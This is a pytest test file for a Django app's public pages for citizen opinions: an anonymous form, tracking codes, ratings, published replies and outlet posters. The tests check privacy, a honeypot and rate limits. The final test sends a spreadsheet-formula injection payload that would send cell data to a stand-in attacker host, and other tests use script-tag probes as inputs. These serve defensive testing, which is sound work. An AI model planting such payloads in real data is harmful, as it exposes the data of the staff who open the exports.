"""The public pages of the people's feelings express station: the form (no account), the page after sending,
following and rating by tracking code, the published opinions, and the outlet's poster.

What they must never do: show who asked (name, phone, email), put the tracking code in a URL, tell a wrong code
from one that cannot be shown, or save anything for a bot or past the rate limit."""

from __future__ import annotations

import datetime as dt
import re
from typing import Any

import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from grassroots.core.context import acting
from grassroots.opinions import services
from grassroots.opinions.models import Opinion, OpinionAttachment, OpinionChange, OpinionRating, State
from grassroots.opinions.tests.fixtures import Station
from grassroots.opinions.views import public as views_public

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
DAY = dt.date(2024, 12, 20)  # a Friday
NAME, PHONE, EMAIL = "张三丰", "139-1234-5678", "zhang.sanfeng@example.cn"
FULL = {"background": "居民反映路灯不亮", "solution": "已更换灯泡", "remaining": "无", "measures": "每月巡查",
        "handler_name": "王师傅", "handler_contact": "0871-7654321"}
CSRF = re.compile(r'name="csrfmiddlewaretoken" value="[^"]*"')


@pytest.fixture(autouse=True)
def _today(monkeypatch: pytest.MonkeyPatch) -> dt.date:
    monkeypatch.setattr(services, "_today", lambda: DAY)
    return DAY


@pytest.fixture(autouse=True)
def _media_in_tmp(settings: Any, tmp_path: Any) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"


def browser(lang: str | None = "en") -> Client:
    """An anonymous visitor; `lang` is the language cookie (None: never chose, so Chinese)."""
    client = Client()
    if lang:
        client.cookies[django_settings.LANGUAGE_COOKIE_NAME] = lang
    return client


def text(response: Any) -> str:
    return response.content.decode()


def form_url(code: str = "S") -> str:
    return reverse("public-opinion-form", args=[code])


def send(client: Client, category: Any, *, code: str = "S", **extra: Any) -> Any:
    data = {"category": category.pk, "text": "东风路12号路灯坏了一个月", "address": "东风路12号", **extra}
    return client.post(form_url(code), data)


def track(client: Client, code: str, **extra: Any) -> Any:
    return client.post(reverse("public-track"), {"code": code, **extra})


def no_contact(page: str) -> None:
    for secret in (NAME, "13912345678", "139-1234-5678", "1234-5678", EMAIL, "zhang.sanfeng"):
        assert secret not in page, secret


def urls_in(page: str) -> list[str]:
    return re.findall(r'(?:href|action|src)="([^"]*)"', page)


def solved(station: Station, *, published: bool = False) -> Opinion:
    """An opinion sent through the public form's service, solved by a published reply."""
    with acting(None, "web"):
        o = services.submit_opinion(station.org, text="小区门口积水", category=station.roads, channel="web",
                                    submitter_name=NAME, submitter_phone=PHONE, submitter_email=EMAIL)
    with acting(None, "system"):
        services.reply(o, to_state=State.SOLVED, on=DAY, **FULL)
        if published:
            services.set_published(o, True)
    return Opinion.objects.get(pk=o.pk)


# --- the form ------------------------------------------------------------------------------------

def test_anonymous_submit_is_routed_by_its_category_and_keeps_the_contact_private(station: Station) -> None:
    client = browser()
    page = text(client.get(form_url()))
    assert "Roads" in page and "Neighbour disputes" in page and "东风社区" in page  # categories and places
    assert "never shown publicly" in page and 'class="hp"' in page  # the contact note; the hidden honeypot
    photo = SimpleUploadedFile("王芳13912345678.png", PNG, content_type="image/png")
    response = send(client, station.roads, name=NAME, phone=PHONE, email=EMAIL, photo=photo)
    assert response.status_code == 302
    o = Opinion.objects.get()
    assert response["Location"] == reverse("public-opinion-done", args=["S"])
    assert o.tracking_code not in response["Location"]
    # routed to the category's department, handled by the station, assigned at once; 5 working days
    assert (o.channel, o.handler_org, o.department, o.state) == ("web", station.org, station.department,
                                                                 State.ASSIGNED)
    assert (o.received_on, o.deadline, o.outlet) == (DAY, dt.date(2024, 12, 27), None)
    assert (o.submitter_name, o.submitter_phone, o.submitter_email) == (NAME, "13912345678", EMAIL)
    assert o.recorded_by is None and o.text == "东风路12号路灯坏了一个月" and o.address == "东风路12号"
    attachment = OpinionAttachment.objects.get(opinion=o)
    assert attachment.file.name.endswith(f"/opinion-{o.pk}-1.png")  # never the sender's file name
    done = client.get(response["Location"])
    page = text(done)
    assert o.number in page and o.tracking_code in page
    assert "Keep this code to follow the reply and rate it." in page
    assert reverse("public-track") in page
    no_contact(page)
    # the code is shown once: the next visit goes back to the form
    again = client.get(reverse("public-opinion-done", args=["S"]))
    assert again.status_code == 302 and again["Location"] == form_url()
    # following it by code shows the opinion, never who asked
    page = text(track(client, o.tracking_code))
    assert o.number in page and "Roads" in page and "2024-12-27" in page and "Assigned" in page
    no_contact(page)


def test_a_category_without_department_goes_to_the_organization_of_the_place(cast: Any, station: Station) -> None:
    response = send(browser(), station.neighbours, territory=station.territory_a.pk)
    assert response.status_code == 302
    o = Opinion.objects.get()
    assert (o.handler_org, o.department, o.state, o.territory) == (cast.branch_a, None, State.ASSIGNED,
                                                                   station.territory_a)
    assert o.deadline == dt.date(2024, 12, 25)  # 3 working days from Monday 23 December


def test_a_category_sorted_by_hand_waits_at_the_station(station: Station) -> None:
    assert send(browser(), station.other).status_code == 302
    o = Opinion.objects.get()
    assert (o.handler_org, o.department, o.state) == (station.org, None, State.RECEIVED)
    assert not o.assignments.exists()


def test_the_outlet_of_the_poster_is_recorded(station: Station) -> None:
    client = browser()
    page = text(client.get(form_url() + "?outlet=OUT-A"))
    assert "东风社区民情快递站" in page and 'name="outlet" value="OUT-A"' in page
    assert send(client, station.neighbours, outlet="OUT-A").status_code == 302
    o = Opinion.objects.get()
    assert (o.channel, o.outlet, o.territory, o.handler_org.code) == ("web", station.outlet_a,
                                                                        station.territory_a, "A")


def test_the_form_refuses_what_is_missing_or_not_a_photo(station: Station) -> None:
    client = browser()
    response = client.post(form_url(), {"category": station.roads.pk, "text": "  "})
    assert response.status_code == 200 and "This field is required." in text(response)
    not_image = SimpleUploadedFile("photo.jpg", b"<html><script>alert(1)</script></html>", content_type="image/jpeg")
    page = text(send(client, station.roads, photo=not_image))
    assert "the file&#x27;s content is not the JPG its name says" in page
    too_big = SimpleUploadedFile("big.png", PNG + b"\x00" * services.MAX_PUBLIC_ATTACHMENT_BYTES,
                                 content_type="image/png")
    page = text(send(client, station.roads, photo=too_big))
    assert "the file is larger than 5 MB" in page
    bad_phone = text(send(client, station.roads, phone="call me"))
    assert "not a phone number" in bad_phone
    assert send(client, station.roads, code="X").status_code == 404  # X runs no station
    assert Opinion.objects.count() == 0 and OpinionAttachment.objects.count() == 0


def test_only_an_organization_with_active_categories_is_a_station(station: Station) -> None:
    client = browser()
    assert client.get(form_url("X")).status_code == 404
    assert client.get(form_url("nowhere")).status_code == 404
    assert client.get(reverse("public-published", args=["A"])).status_code == 404
    station.org.opinion_categories.update(active=False)
    assert client.get(form_url("S")).status_code == 404


# Measured 39: the session; the station, its categories (twice: the choices and the check), its places and the
# outlet; in the service the route by place, the next number, the opinion, its assignment and first change, the
# opinion's update and their two audit entries; the photo (the opinion locked, its attachments counted) and its
# audit entry; the session saved; with their savepoints. However many opinions the station has taken in. The
# bound leaves room for the dated routing by place (orgs.selectors.holder_of reads the place's history).
SUBMIT_QUERIES = 44


def _send_counted(client: Client, station: Station) -> int:
    """Send an opinion with a photo through the public form, routed by its place; the number of queries (the
    session's aside)."""
    before = Opinion.objects.count()
    photo = SimpleUploadedFile("p.png", PNG, content_type="image/png")
    with CaptureQueriesContext(connection) as queries:
        response = send(client, station.neighbours, territory=station.territory_a.pk, name=NAME, phone=PHONE,
                        photo=photo)
    assert response.status_code == 302
    assert Opinion.objects.count() == before + 1
    o = Opinion.objects.latest("id")
    assert (o.handler_org.code, o.state, o.attachments.count()) == ("A", State.ASSIGNED, 1)
    # The visitor's session is created by their first write (sessions are read from the cache, so nothing is
    # queried for it before): once per visitor, not per opinion, and not what this counts.
    return len([q for q in queries.captured_queries if "django_session" not in q["sql"]])


def test_sending_the_form_takes_the_same_queries_for_the_first_and_the_sixth_opinion(station: Station) -> None:
    client = browser()
    assert client.get(form_url()).status_code == 200  # the session, warm
    first = _send_counted(client, station)
    with acting(None, "web"):
        for i in range(4):
            services.submit_opinion(station.org, text=f"意见{i}", category=station.roads, channel="web")
    sixth = _send_counted(client, station)
    assert Opinion.objects.count() == 6
    assert first == sixth <= SUBMIT_QUERIES


def test_a_bot_filling_the_honeypot_sees_success_and_nothing_is_saved(station: Station) -> None:
    client = browser()
    photo = SimpleUploadedFile("p.png", PNG, content_type="image/png")
    response = send(client, station.roads, website="http://spam.example", name=NAME, photo=photo)
    assert response.status_code == 302 and response["Location"] == reverse("public-opinion-done", args=["S"])
    page = text(client.get(response["Location"]))
    assert "Keep this code to follow the reply and rate it." in page
    shown = re.search(r'id="tracking-code">([^<]+)<', page)
    assert shown and len(shown.group(1)) == services.TRACKING_LENGTH
    assert re.search(r'id="opinion-number">S-\d{4}-0001<', page)  # looks like the next number
    assert Opinion.objects.count() == 0 and OpinionAttachment.objects.count() == 0
    # the code it was shown finds nothing
    assert "No opinion with this code" in text(track(client, shown.group(1)))


def test_past_the_rate_limit_the_form_answers_429_and_saves_nothing(station: Station, settings: Any) -> None:
    settings.GRASSROOTS_RATE_LIMITS = {"opinion_submit": (2, 600)}
    client = browser()
    assert [send(client, station.roads).status_code for _i in range(2)] == [302, 302]
    response = send(client, station.roads, text="第三条意见")
    assert response.status_code == 429
    page = text(response)
    assert "Nothing was saved. Please try again in a few minutes" in page and "第三条意见" in page
    assert Opinion.objects.count() == 2
    # another address is not limited
    other = Client(REMOTE_ADDR="10.0.0.9")
    assert send(other, station.roads).status_code == 302 and Opinion.objects.count() == 3


# --- following and rating ------------------------------------------------------------------------

def _without_tokens(page: str) -> str:
    return CSRF.sub("", page)


def test_a_wrong_or_malformed_code_reveals_nothing(station: Station) -> None:
    o = solved(station, published=True)
    client = browser()
    pages = set()
    for code in ("2345678923", o.tracking_code[:-1] + ("2" if o.tracking_code[-1] != "2" else "3"), "abc", "",
                 "0000000000", "<script>x</script>", o.number, o.tracking_code + "2"):
        response = track(client, code)
        assert response.status_code == 200
        page = text(response)
        assert "No opinion with this code" in page
        assert o.number not in page and "小区门口积水" not in page and "已更换灯泡" not in page
        pages.add(_without_tokens(page))
    assert len(pages) == 1  # the very same answer, whatever the code was
    # the right code, typed as people type it, does show it
    typed = o.tracking_code[:5].lower() + " - " + o.tracking_code[5:].lower()
    page = text(track(client, typed))
    assert o.number in page and "小区门口积水" in page and "No opinion with this code" not in page


def test_rating_by_code_is_one_post_and_a_low_rating_reopens(station: Station) -> None:
    good, bad = solved(station), solved(station)
    client = browser()
    page = text(track(client, good.tracking_code))
    assert "已更换灯泡" in page and "王师傅" in page and "Solved" in page  # the reply, with its handler
    for score in range(1, 6):
        assert f'name="score" value="{score}"' in page
    assert "A rating of 2 or less reopens the opinion" in page
    no_contact(page)

    page = text(track(client, good.tracking_code, score="5", comment="很及时"))
    assert "Thank you for your rating (5 of 5)." in page and "reopened" not in page
    rating = OpinionRating.objects.get(opinion=good)
    assert (rating.score, rating.comment, rating.on) == (5, "很及时", DAY)
    good.refresh_from_db()
    assert good.state == State.SOLVED

    page = text(track(client, bad.tracking_code, score="2", comment="积水还在"))
    assert "Thank you for your rating (2 of 5)." in page
    assert "Your opinion has been reopened" in page
    bad.refresh_from_db()
    assert bad.state == State.REOPENED
    assert OpinionRating.objects.get(opinion=bad).score == 2
    assert 'name="score"' not in page  # nothing to rate until a new reply completes it
    no_contact(page)


def test_a_rating_out_of_range_or_of_an_open_opinion_is_refused(station: Station) -> None:
    o = solved(station)
    client = browser()
    page = text(track(client, o.tracking_code, score="9"))
    assert "rate from 1 to 5" in page and not OpinionRating.objects.exists()
    with acting(None, "web"):
        still_open = services.submit_opinion(station.org, text="噪音扰民", category=station.roads, channel="web")
    page = text(track(client, still_open.tracking_code))
    assert still_open.number in page and 'name="score"' not in page
    page = text(track(client, still_open.tracking_code, score="5"))
    assert "no opinion with this code can be rated now" in page and not OpinionRating.objects.exists()


def test_lookups_and_ratings_are_rate_limited(station: Station, settings: Any) -> None:
    settings.GRASSROOTS_RATE_LIMITS = {"tracking_lookup": (3, 600)}
    o = solved(station)
    client = browser()
    assert [track(client, "2345678923").status_code for _i in range(2)] == [200, 200]
    assert o.number in text(track(client, o.tracking_code))
    response = track(client, o.tracking_code, score="5")
    assert response.status_code == 429
    page = text(response)
    assert "Please try again in a few minutes." in page and o.number not in page
    assert not OpinionRating.objects.exists()


def test_the_tracking_code_is_never_in_a_url(station: Station) -> None:
    client = browser()
    response = send(client, station.roads, name=NAME)
    o = Opinion.objects.get()
    assert o.tracking_code not in response["Location"]
    done = text(client.get(response["Location"]))
    assert o.tracking_code in done
    assert all(o.tracking_code not in url for url in urls_in(done))
    assert 'method="post"' in text(client.get(reverse("public-track")))
    # a code in the query string is ignored: the page shows only the empty form
    page = text(client.get(reverse("public-track") + f"?code={o.tracking_code}"))
    assert o.number not in page and 'id="tracking-code"' in page
    tracked = text(track(client, o.tracking_code))
    assert o.number in tracked and o.tracking_code not in tracked  # nothing to rate: not even a hidden field
    rateable = solved(station)
    tracked = text(track(client, rateable.tracking_code))
    assert f'<input type="hidden" name="code" value="{rateable.tracking_code}">' in tracked  # posted, not linked
    assert all(rateable.tracking_code not in url for url in urls_in(tracked))
    # the language switch goes back to the form, not to the page with the code
    assert 'name="next" value="/p/S/"' in done


# --- published opinions --------------------------------------------------------------------------

def test_only_published_opinions_and_replies_are_shown_without_contacts(station: Station,
                                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    shown = solved(station, published=True)
    with acting(None, "web"):
        hidden = services.submit_opinion(station.org, text="私下反映的问题", category=station.other, channel="web",
                                         submitter_name="李四", submitter_phone="13700000000")
    with acting(None, "system"):
        draft = services.draft_reply(shown, to_state=State.REOPENED, reason="草稿不公开")
    assert draft.is_draft
    services.rate(shown.tracking_code, 1, comment="我的电话13912345678")  # reopens: the comment stays private
    client = browser()
    page = text(client.get(reverse("public-published", args=["S"])))
    assert shown.number in page and "小区门口积水" in page and "已更换灯泡" in page and "Roads" in page
    assert "Reopened" in page and "Reopened after a low rating by the person who asked." in page
    assert hidden.number not in page and "私下反映的问题" not in page and "李四" not in page
    assert "草稿不公开" not in page and "我的电话" not in page
    assert "王师傅" not in page and "0871-7654321" not in page  # the handler's contact is for the person who asked
    no_contact(page)
    assert OpinionChange.objects.filter(opinion=shown, by_rating=True).exists()

    # newest first, in pages
    newer = solved(station, published=True)
    monkeypatch.setattr(views_public, "PUBLISHED_PAGE_SIZE", 1)
    first = text(client.get(reverse("public-published", args=["S"])))
    second = text(client.get(reverse("public-published", args=["S"]) + "?page=2"))
    assert newer.number in first and shown.number not in first and 'rel="next"' in first
    assert shown.number in second and newer.number not in second


def test_no_published_opinion_yet(station: Station) -> None:
    solved(station)  # not published
    page = text(browser().get(reverse("public-published", args=["S"])))
    assert 'id="none-published"' in page and "S-2024-" not in page


# --- the poster ----------------------------------------------------------------------------------

def test_the_poster_has_the_qr_code_of_the_outlets_form(station: Station) -> None:
    with acting(None, "system"):
        services.outlet_create(station.org, code="OUT-B", name="西山村民情快递站", address="西山村委会一楼",
                               recipients="村支书 赵六")
    client = browser()
    page = text(client.get(reverse("public-poster", args=["S", "OUT-B"])))
    assert "<svg" in page and "<?xml" not in page
    assert "http://testserver/p/S/?outlet=OUT-B" in page
    assert "西山村民情快递站" in page and "西山村委会一楼" in page and "村支书 赵六" in page and "街道党工委" in page
    assert "@page" in page and "A4" in page
    page = text(client.get(reverse("public-poster", args=["S", "OUT-A"])))
    assert "http://testserver/p/S/?outlet=OUT-A" in page and "东风社区民情快递站" in page
    assert client.get(reverse("public-poster", args=["S", "OUT-Z"])).status_code == 404
    assert client.get(reverse("public-poster", args=["X", "OUT-A"])).status_code == 404


def test_the_qr_code_encodes_the_form_url() -> None:
    svg = views_public.qr_svg("http://testserver/p/S/?outlet=OUT-A")
    assert svg.startswith("<svg") and "<path" in svg
    assert views_public.qr_svg("http://testserver/p/S/?outlet=OUT-A") == svg  # deterministic
    assert views_public.qr_svg("http://testserver/p/S/?outlet=OUT-B") != svg


# --- languages and who is looking ----------------------------------------------------------------

def test_the_form_speaks_english_with_the_language_cookie_and_chinese_otherwise(station: Station) -> None:
    english = text(browser("en").get(form_url()))
    assert '<html lang="en">' in english and ">Roads<" in english and "道路" not in english
    assert "What is it about?" in english and 'aria-pressed="true">English' in english
    chinese = text(browser(None).get(form_url()))
    assert '<html lang="zh-hans">' in chinese and "道路" in chinese and ">Roads<" not in chinese
    assert 'aria-pressed="true">中文' in chinese
    # sending in English works the same
    client = browser("en")
    assert send(client, station.roads).status_code == 302
    assert "Your opinion has been received." in text(client.get(reverse("public-opinion-done", args=["S"])))


def test_the_language_switch_keeps_the_visitor_on_the_public_page(station: Station) -> None:
    client = browser(None)
    response = client.post(reverse("set_language"), {"language": "en", "next": form_url() + "?outlet=OUT-A"})
    assert response.status_code == 302 and response["Location"] == form_url() + "?outlet=OUT-A"
    assert '<html lang="en">' in text(client.get(response["Location"]))


def test_a_logged_in_user_sees_the_same_public_page(cast: Any, station: Station) -> None:
    client = browser()
    client.force_login(cast.secretary)
    page = text(client.get(form_url()))
    assert "What is it about?" in page
    assert reverse("org-tree") not in page and "Log out" not in page  # no staff navigation
    assert send(client, station.roads).status_code == 302
    assert Opinion.objects.get().channel == "web"


# --- what the public writes, in the staff's export --------------------------------------------------------

def test_a_formula_sent_by_the_public_form_is_text_in_the_staff_export(cast: Any, station: Station) -> None:
    from grassroots.ui.testing import client_as
    from grassroots.ui.tests.test_xlsx import assert_text_cells

    evil = '=HYPERLINK("http://evil.example/?d="&G2,"点这里")'
    response = send(browser(), station.roads, text=evil, address="@SUM(1+1)", name="=1+2", phone=PHONE)
    assert response.status_code == 302
    assert Opinion.objects.get().text == evil  # kept as the resident wrote it
    export = client_as(cast, "street_admin").get(reverse("opinion-list", args=["S"]), {"format": "xlsx"})
    assert export.status_code == 200
    assert_text_cells(export.content, [evil, "@SUM(1+1)"])
